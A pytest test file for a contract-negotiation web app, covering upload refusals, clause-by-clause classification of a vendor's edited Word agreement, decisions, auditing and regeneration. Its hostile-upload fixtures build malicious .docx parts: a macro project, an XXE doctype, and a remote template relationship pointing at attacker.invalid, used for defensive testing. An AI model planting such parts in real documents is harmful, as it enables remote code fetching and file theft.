"""The vendor's returned copy through the test client with CSRF on: every refusal stores
nothing; a good copy is compared clause by clause with the generated agreement (real .docx
files edited as Word would), and each change is decided, audited and carried into the
regenerated agreement, its page, the exceptions report and the vendor's page."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest
from docx import Document
from sqlalchemy import func, select

from sharing.agreements import files
from sharing.agreements.models import Agreement, AgreementStatus
from sharing.audit.models import AuditEvent
from sharing.core.clock import now
from sharing.errors import ValidationFailed
from sharing.extensions import db
from sharing.inbox.models import InboxItem
from sharing.negotiation import decisions, queries
from sharing.negotiation.models import (
    Decision,
    Deviation,
    DeviationKind,
    ReturnedCopy,
    ReturnStatus,
)
from sharing.vendors.models import Organisation
from tests.factories import make_user
from tests.hostile import builders as b
from tests.web.tables.negotiation import (
    ADDED_TEXT,
    add_clause,
    breach_notice,
    delete_clause,
    generated_agreement,
    returned,
    reword,
    set_number,
    upload_form,
)

S = AgreementStatus


def _upload_url(agreement: Agreement) -> str:
    return f"/negotiation/agreements/{agreement.id}/return"


def _stored_files(app) -> list[str]:
    root = Path(app.config["UPLOAD_DIR"])
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def _copies() -> int:
    return db.session.scalar(select(func.count()).select_from(ReturnedCopy))


def _vendor_agreement(login_as, status: AgreementStatus = S.SENT_FOR_SIGNATURE):
    vendor = login_as("vendor")
    organisation = db.session.get(Organisation, vendor.organisation_id)
    return vendor, generated_agreement(organisation, status=status)


def _upload(client, agreement: Agreement, data: bytes):
    return client.post_form(_upload_url(agreement), upload_form(data))


def _copy_of(agreement: Agreement) -> ReturnedCopy:
    db.session.expire_all()
    return db.session.scalars(
        select(ReturnedCopy).where(ReturnedCopy.agreement_id == agreement.id)
    ).one()


def _decide(client, deviation: Deviation, decision: str, note: str = ""):
    prefix = f"d{deviation.id}-"
    url = f"/negotiation/copies/{deviation.returned_copy_id}/deviations/{deviation.id}"
    return client.post_form(
        url,
        {f"{prefix}decision": decision, f"{prefix}note": note},
        from_url=f"/negotiation/copies/{deviation.returned_copy_id}",
    )


# Refusals: nothing stored ---------------------------------------------------------------


def test_a_vendor_of_another_organisation_gets_404_and_nothing_is_stored(app, client, login_as):
    """Another organisation's agreement is a 404 for a vendor, on the page and on upload."""
    agreement = generated_agreement()
    data = returned(agreement, breach_notice(168))
    login_as("vendor")
    stored = _stored_files(app)
    assert client.get(_upload_url(agreement)).status_code == 404
    assert (
        client.post_form(_upload_url(agreement), upload_form(data), from_url="/portal/").status_code
        == 404
    )
    assert _copies() == 0 and _stored_files(app) == stored


def test_a_file_of_another_agreement_is_refused_by_its_number(app, client, login_as):
    """The message names both numbers; no row and no file are kept."""
    _, agreement = _vendor_agreement(login_as)
    data = returned(agreement, set_number("DSA-2020-0001"))
    stored = _stored_files(app)
    response = _upload(client, agreement, data)
    assert response.status_code == 400
    assert f"This file is agreement DSA-2020-0001, not {agreement.number}." in response.text
    assert 'id="returned_file-error"' in response.text
    assert _copies() == 0 and _stored_files(app) == stored


HOSTILE = {
    "macro content type": lambda data: b.rezip(
        data, {"[Content_Types].xml": b.swap_type(b.DOCX_MAIN, b.DOCM_MAIN)}
    ),
    "vba project": lambda data: b.rezip(
        data, extra={"word/vbaProject.bin": b.OLE_MAGIC + b"\x00" * 64}
    ),
    "external relationship": lambda data: b.rezip(
        data, extra={"word/_rels/settings.xml.rels": _external_rels()}
    ),
    "doctype": lambda data: b.rezip(data, {"word/document.xml": b.with_doctype(b.XXE)}),
    "not a zip": lambda data: b"%PDF-1.7\n" + data[:200],
    "damaged zip": lambda data: data[: len(data) // 2],
}


def _external_rels() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
        b'TargetMode="External"/></Relationships>'
    )


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_a_hostile_or_corrupt_docx_is_refused_and_nothing_is_stored(app, client, login_as, kind):
    """The container checks every upload gets: macros, outside links, DTDs, not a zip."""
    _, agreement = _vendor_agreement(login_as)
    data = HOSTILE[kind](returned(agreement, breach_notice(168)))
    stored = _stored_files(app)
    response = _upload(client, agreement, data)
    assert response.status_code == 400
    assert 'id="returned_file-error"' in response.text
    assert _copies() == 0 and _stored_files(app) == stored


def test_a_file_with_no_recognisable_clause_is_refused(app, client, login_as):
    """A Word file that names the agreement but holds none of its clauses."""
    _, agreement = _vendor_agreement(login_as)
    document = Document()
    document.core_properties.keywords = agreement.number
    document.add_paragraph(f"Agreement No. {agreement.number}")
    document.add_paragraph("We would like to discuss the terms by phone.")
    out = BytesIO()
    document.save(out)
    stored = _stored_files(app)
    response = _upload(client, agreement, out.getvalue())
    assert response.status_code == 400
    assert "No clause of the agreement could be recognized" in response.text
    assert _copies() == 0 and _stored_files(app) == stored


def test_a_vendor_may_not_upload_before_the_agreement_is_sent(app, client, login_as):
    """While the agreement is only generated, the vendor's upload is refused with the reason."""
    _, agreement = _vendor_agreement(login_as, status=S.GENERATED)
    response = _upload(client, agreement, returned(agreement, breach_notice(168)))
    assert response.status_code == 400
    assert "can be received only while" in response.text
    assert _copies() == 0


# Classification ---------------------------------------------------------------------------


def test_wording_only_changes_are_classified_as_wording(client, login_as):
    """Other words, same numbers: one change of wording, no parameter, nothing weakened."""
    _, agreement = _vendor_agreement(login_as)
    data = returned(agreement, reword("PUR-1", "listed in Exhibit A", "set out in Exhibit A"))
    response = _upload(client, agreement, data)
    assert response.status_code == 302
    copy = _copy_of(agreement)
    assert [(d.code, d.kind) for d in copy.deviations] == [("PUR-1", DeviationKind.WORDING)]
    assert copy.deviations[0].parameter_name is None


def test_a_returned_copy_is_stored_audited_and_the_office_told(app, client, login_as):
    """The vendor's file and the redline are kept with the SHA-256, the office hears of it,
    and the agreement is back with the City for decisions."""
    vendor, agreement = _vendor_agreement(login_as)
    data = returned(agreement, breach_notice(168))
    response = _upload(client, agreement, data)
    assert response.status_code == 302
    copy = _copy_of(agreement)
    assert response.headers["Location"] == f"/negotiation/returned/{copy.id}"
    assert files.read(copy.stored_name) == data
    assert copy.generated_sha256 == agreement.generated_sha256
    assert copy.uploaded_by_id == vendor.id and copy.original_name == "Returned DPA.docx"
    # The upload is the vendor's answer to the request to sign: one event, the signing
    # step's, which carries the copy's summary.
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "agreement.returned_for_changes")
    ).one()
    assert event.object_id == str(agreement.id)
    assert event.changes["returned_copy"]["after"]["sha256"] == copy.sha256
    assert (
        db.session.scalar(
            select(func.count())
            .select_from(InboxItem)
            .where(InboxItem.kind == "agreement.returned_copy_received")
        )
        >= 1
    )
    assert db.session.get(Agreement, agreement.id).status == S.GENERATED
    assert queries.undecided_count(agreement.id) == len(copy.deviations) > 0


# The four changes of the issue, decided ---------------------------------------------------


def _four_changes(client, login_as):
    """Upload (as privacy, a copy received by mail) a file with all four kinds of change."""
    login_as("privacy")
    agreement = generated_agreement(status=S.GENERATED)
    data = returned(
        agreement,
        reword("PUR-1", "listed in Exhibit A", "set out in Exhibit A"),
        breach_notice(168),
        delete_clause("SUB-1"),
        add_clause(),
    )
    response = _upload(client, agreement, data)
    assert response.status_code == 302, response.text[:500]
    copy = _copy_of(agreement)
    return agreement, copy, {d.kind: d for d in copy.deviations}


def test_each_kind_of_change_is_found_weakened_first(client, login_as):
    """Wording, a weakened breach notice, a removed and an added clause; weakened comes first."""
    agreement, copy, by_kind = _four_changes(client, login_as)
    assert set(by_kind) == {
        DeviationKind.WORDING,
        DeviationKind.WEAKENED,
        DeviationKind.REMOVED,
        DeviationKind.ADDED,
    }
    assert copy.deviations[0].kind == DeviationKind.WEAKENED
    weakened = by_kind[DeviationKind.WEAKENED]
    assert (weakened.code, weakened.parameter_name) == ("BRN-1", "breach_notice_hours")
    assert (weakened.parameter_before, weakened.parameter_after) == (72, 168)
    assert by_kind[DeviationKind.REMOVED].code == "SUB-1"
    assert ADDED_TEXT in by_kind[DeviationKind.ADDED].after_text
    page = client.get(f"/negotiation/copies/{copy.id}")
    assert page.status_code == 200
    text = page.text
    # The obligation's title comes before its code, with its source in the policy.
    assert text.index("Report incidents quickly") < text.index("BRN-1")
    assert "Source: " in text


def test_the_decisions_carry_into_the_agreement_its_page_the_report_and_the_vendor(
    client, login_as
):
    """(b) parameter change sets the parameter, (c) an exception with a reason appears on the
    page, in Exhibit E of the regenerated .docx and in the report, (d) a rejection's comment
    reaches the vendor; every decision is audited."""
    agreement, copy, by_kind = _four_changes(client, login_as)
    assert _decide(client, by_kind[DeviationKind.WEAKENED], "parameter").status_code == 302
    db.session.expire_all()
    assert db.session.get(Agreement, agreement.id).parameters["breach_notice_hours"] == 168
    reason = "The vendor uses no subprocessor for this service."
    assert _decide(client, by_kind[DeviationKind.REMOVED], "exception", reason).status_code == 302
    comment = "The City does not allow secondary use of its data, even aggregated."
    assert _decide(client, by_kind[DeviationKind.ADDED], "rejected", comment).status_code == 302
    assert queries.undecided_count(agreement.id) == 1
    assert (
        _decide(client, by_kind[DeviationKind.WORDING], "exception", "Same meaning.").status_code
        == 302
    )
    assert queries.undecided_count(agreement.id) == 0
    events = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "agreement.deviation_decided")
    ).all()
    assert len(events) == 4
    assert {"before": 72, "after": 168} in [e.changes.get("breach_notice_hours") for e in events]

    response = client.post_form(
        f"/negotiation/copies/{copy.id}/regenerate", {}, from_url=f"/negotiation/copies/{copy.id}"
    )
    assert response.status_code == 302
    db.session.expire_all()
    saved = db.session.get(Agreement, agreement.id)
    assert saved.exceptions["SUB-1"]["reason"] == reason
    assert db.session.get(ReturnedCopy, copy.id).status == ReturnStatus.DECIDED
    document = Document(BytesIO(files.read(saved.generated_file)))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert any(f"Exception agreed: {reason}" in cell for cell in cells)
    body = "\n".join(p.text for p in document.paragraphs)
    assert "within 168 hours" in body

    page = client.get(f"/agreements/{agreement.id}").text
    assert 'id="agreed-exceptions"' in page and reason in page
    report = client.get("/negotiation/exceptions").text
    assert reason in report and agreement.number in report
    csv = client.get("/negotiation/exceptions.csv")
    assert csv.mimetype == "text/csv" and reason in csv.text and "SUB-1" in csv.text

    login_as("vendor", organisation_id=agreement.organisation_id)
    vendor_page = client.get(f"/negotiation/returned/{copy.id}")
    assert vendor_page.status_code == 200 and comment in vendor_page.text
    assert "Rejected" in vendor_page.text


def test_an_exception_needs_a_reason_and_a_rejection_a_comment(client, login_as):
    """The reason is asked for beside the field, and the change stays undecided."""
    _, copy, by_kind = _four_changes(client, login_as)
    removed = by_kind[DeviationKind.REMOVED]
    response = _decide(client, removed, "exception", "")
    assert response.status_code == 400
    assert "Give the reason the City accepts this exception." in response.text
    response = _decide(client, by_kind[DeviationKind.ADDED], "rejected", "  ")
    assert "Write a comment for the vendor" in response.text
    db.session.expire_all()
    assert db.session.get(Deviation, removed.id).decision == Decision.UNDECIDED


def test_a_change_without_a_parameter_cannot_be_a_parameter_change(client, login_as):
    """Only a change that sets a parameter may be accepted as one: the choice is offered only
    on that change's form, and a forged post of it elsewhere is refused."""
    _, copy, by_kind = _four_changes(client, login_as)
    page = client.get(f"/negotiation/copies/{copy.id}").get_data(as_text=True)
    with_parameter = [d for d in copy.deviations if d.parameter_name]
    assert page.count('value="parameter"') == len(with_parameter) == 1
    removed = by_kind[DeviationKind.REMOVED]
    response = _decide(client, removed, "parameter")
    assert response.status_code == 400
    db.session.expire_all()
    assert db.session.get(Deviation, removed.id).decision == Decision.UNDECIDED


def test_a_decision_changes_until_regeneration_and_undoes_its_effect(client, login_as):
    """Accepting then rejecting the breach notice puts 72 hours back."""
    agreement, _, by_kind = _four_changes(client, login_as)
    weakened = by_kind[DeviationKind.WEAKENED]
    _decide(client, weakened, "parameter")
    _decide(client, weakened, "rejected", "72 hours is the City's limit.")
    db.session.expire_all()
    assert db.session.get(Agreement, agreement.id).parameters["breach_notice_hours"] == 72
    assert db.session.get(Deviation, weakened.id).decision == Decision.REJECTED


def test_regeneration_waits_for_every_decision(client, login_as):
    """With a change undecided, the agreement is not regenerated and the copy stays open."""
    agreement, copy, _ = _four_changes(client, login_as)
    before = agreement.generated_sha256
    client.post_form(
        f"/negotiation/copies/{copy.id}/regenerate", {}, from_url=f"/negotiation/copies/{copy.id}"
    )
    db.session.expire_all()
    assert db.session.get(ReturnedCopy, copy.id).status == ReturnStatus.OPEN
    assert db.session.get(Agreement, agreement.id).generated_sha256 == before


def test_the_returned_file_and_the_redline_download_with_proper_names(client, login_as):
    """Both files come back as .docx attachments named after the agreement."""
    agreement, copy, _ = _four_changes(client, login_as)
    response = client.get(f"/negotiation/copies/{copy.id}/returned.docx")
    assert response.status_code == 200
    assert response.data == files.read(copy.stored_name)
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment") and f"{agreement.number}-" in disposition
    assert "-returned-1.docx" in disposition
    if copy.redline_name:
        redline = client.get(f"/negotiation/copies/{copy.id}/redline.docx")
        assert (
            redline.status_code == 200
            and "-redline-1.docx" in redline.headers["Content-Disposition"]
        )


def test_a_newer_copy_replaces_an_open_one_and_takes_back_its_decisions(client, login_as):
    """A second copy received before regeneration: the first is replaced, its accepted
    parameter change is undone, and only the new copy's changes wait for a decision."""
    agreement, first, by_kind = _four_changes(client, login_as)
    _decide(client, by_kind[DeviationKind.WEAKENED], "parameter")
    data = returned(agreement, breach_notice(96))
    assert _upload(client, agreement, data).status_code == 302
    db.session.expire_all()
    assert db.session.get(ReturnedCopy, first.id).status == ReturnStatus.SUPERSEDED
    assert db.session.get(Agreement, agreement.id).parameters["breach_notice_hours"] == 72
    newest = db.session.scalars(
        select(ReturnedCopy).where(
            ReturnedCopy.agreement_id == agreement.id, ReturnedCopy.round == 2
        )
    ).one()
    assert queries.undecided_count(agreement.id) == len(newest.deviations) == 1


def test_the_office_home_lists_a_returned_copy_until_it_is_regenerated(app, client, login_as):
    """The copy waits for the privacy office on its home page, with how many changes are left
    to decide and a link to the review page."""
    _vendor, agreement = _vendor_agreement(login_as)
    assert _upload(client, agreement, returned(agreement, breach_notice(168))).status_code == 302
    copy = _copy_of(agreement)
    login_as("privacy")
    waiting = client.get("/").get_data(as_text=True)
    for_you = waiting[
        waiting.index('id="waiting-for-you"') : waiting.index('id="waiting-for-others"')
    ]
    assert "Returned with changes" in for_you
    assert f"/negotiation/copies/{copy.id}" in for_you
    assert f"{len(copy.deviations)} to decide" in for_you


def test_the_decision_service_refuses_a_parameter_change_for_a_change_without_one(client, login_as):
    """Behind the form, the service says why a removed clause cannot be a parameter change."""
    _, _, by_kind = _four_changes(client, login_as)
    with pytest.raises(ValidationFailed) as refused:
        decisions.decide_deviation(
            actor=make_user("privacy"),
            deviation=by_kind[DeviationKind.REMOVED],
            decision=Decision.PARAMETER,
            note="",
            now=now(),
        )
    assert "sets no parameter" in refused.value.errors["decision"]
